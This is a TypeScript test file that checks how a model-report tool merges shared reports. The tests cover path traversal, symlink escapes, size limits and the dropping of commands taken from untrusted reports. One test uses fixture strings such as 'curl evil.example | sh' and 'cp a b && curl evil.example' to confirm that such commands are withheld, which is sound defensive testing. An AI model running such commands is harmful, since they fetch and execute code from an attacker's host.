import { createHash } from "node:crypto";
import { mkdir, readFile, symlink, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { mostEngineBytes } from "../../../src/artifacts/engine-files.ts";
import { keepFiles } from "../../../src/commands/merged-files.ts";
import type { ModelReport, Report } from "../../../src/report/schema.ts";
import { adoptFix } from "../../../src/report/sections/kept.ts";
import { passingModel, passReport, sampleFix } from "../../fakes/report.ts";
import { type RunEffects, runEffects } from "../../fakes/run-effects.ts";

let run: RunEffects;
afterEach(() => run.end());

const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");
const engine = (text: string, path: string): NonNullable<ModelReport["engines"]>[number] => ({
  role: "candidate",
  sha256: sha256(text),
  sizeBytes: text.length,
  path,
});

/** A share's report with one model, and its files beside it. */
async function share(name: string, files: Readonly<Record<string, string>>, model: Partial<ModelReport>) {
  for (const [path, text] of Object.entries(files)) {
    const full = join(run.cwd, name, path);
    await mkdir(dirname(full), { recursive: true });
    await writeFile(full, text);
  }
  return {
    path: `${name}/report.json`,
    report: passReport({ models: [passingModel({ name, reproduce: ["trt-gate check m.onnx"], ...model })] }),
  };
}

async function merged(parts: Awaited<ReturnType<typeof share>>[], used = parts) {
  const report = passReport({ models: parts.flatMap((part) => part.report.models) });
  return await keepFiles(report, used, join(run.cwd, "merged"), run);
}

describe("the files of merged shares", () => {
  it("come along: engines with the bytes that their share judged, and the script that reproduces with its files", async () => {
    run = await runEffects();
    const files = { "engines/a/candidate.plan": "plan", "reproduce/a/reproduce.sh": "#!/bin/sh", "reproduce/a/tolerance.yml": "x" };
    const reproduction = { script: "reproduce/a/reproduce.sh", command: "sh reproduce.sh", files: ["reproduce/a/tolerance.yml"] };
    const part = await share("one", files, { engines: [engine("plan", "engines/a/candidate.plan")], reproduction });
    const { models } = await merged([part]);
    expect(models[0]).toMatchObject({ engines: [{ path: "engines/a/candidate.plan" }], reproduction });
    for (const [path, text] of Object.entries(files)) expect(await readFile(join(run.cwd, "merged", path), "utf8")).toBe(text);
  });

  it("stay behind where they are not there, are others, or lead elsewhere; the hash stays in the report with why", async () => {
    run = await runEffects();
    const part = await share(
      "one",
      { "engines/a/other.plan": "changed" },
      {
        engines: [
          engine("plan", "engines/a/none.plan"),
          engine("plan", "engines/a/other.plan"),
          engine("plan", "../secret"),
          engine("plan", "up/linked.plan"),
        ],
      },
    );
    await symlink("/etc/hostname", join(run.cwd, "one/engines/a/none.plan"));
    await symlink(run.cwd, join(run.cwd, "one/up"));
    await writeFile(join(run.cwd, "linked.plan"), "plan");
    const { models } = await merged([part]);
    expect(models[0]?.engines).toEqual([
      { role: "candidate", sha256: sha256("plan"), sizeBytes: 4, why: "the share's report came without it" },
      { role: "candidate", sha256: sha256("plan"), sizeBytes: 4, why: "the file beside the share's report is another one" },
      { role: "candidate", sha256: sha256("plan"), sizeBytes: 4, why: "the share's report came without it" },
      { role: "candidate", sha256: sha256("plan"), sizeBytes: 4, why: "the share's report came without it" },
    ]);
  });

  it("lose the script that reproduces with any of its files, and everything of a foreign report", async () => {
    run = await runEffects();
    const reproduction = { script: "r/reproduce.sh", command: "sh r/reproduce.sh", files: ["r/tolerance.yml"] };
    const part = await share("one", { "r/reproduce.sh": "x", "e.plan": "plan" }, { engines: [engine("plan", "e.plan")], reproduction });
    expect((await merged([part])).models[0]?.reproduction).toBeUndefined();
    const [foreign] = (await merged([part], [])).models;
    expect(foreign?.engines?.map(({ path }) => path)).toEqual([undefined]);
    expect([part.report.models[0]?.reproduce.length, foreign?.reproduce]).toEqual([expect.any(Number), []]);
    expect((await merged([part])).models[0]?.reproduce).toEqual(part.report.models[0]?.reproduce);
  });

  it("give no command to copy out of a foreign report: neither of a fix nor of a scale to put back", async () => {
    run = await runEffects();
    const advice = [{ rule: "moved-scales", text: "Put it back.", evidence: { command: "curl evil.example | sh", what: "cache" } }];
    const fix = sampleFix({
      files: [{ format: "qdq", path: "fix/fixed.qdq.onnx", command: "", commit: "cp a b && curl evil.example", leftOut: [] }],
    });
    const quantization = { ...passingModel().quantization, algorithm: "Q/DQ" };
    const part = await share("one", { "fix/fixed.qdq.onnx": "x" }, { advice, fix, quantization, verdict: "regression" });
    const offered = ({ models }: Report) => models.map((model) => adoptFix(model, {})).join("");
    expect(offered(await merged([part]))).toMatch(/^curl evil.example \| sh && git commit[\s\S]*^cp a b && curl evil.example$/m);
    expect(offered(await merged([part], []))).toBe("");
  });

  it("share one limit of size", async () => {
    run = await runEffects();
    const large = { ...engine("plan", "e.plan"), sizeBytes: mostEngineBytes - 3 };
    const parts = [
      await share("one", { "e.plan": "plan" }, { engines: [large] }),
      await share("two", { "f.plan": "plan" }, { engines: [engine("plan", "f.plan")] }),
    ];
    const { models } = await merged(parts);
    expect(models.map(({ engines }) => engines?.[0]?.why)).toEqual([undefined, "it would be more than 256 MiB of engines in this report"]);
  });
});
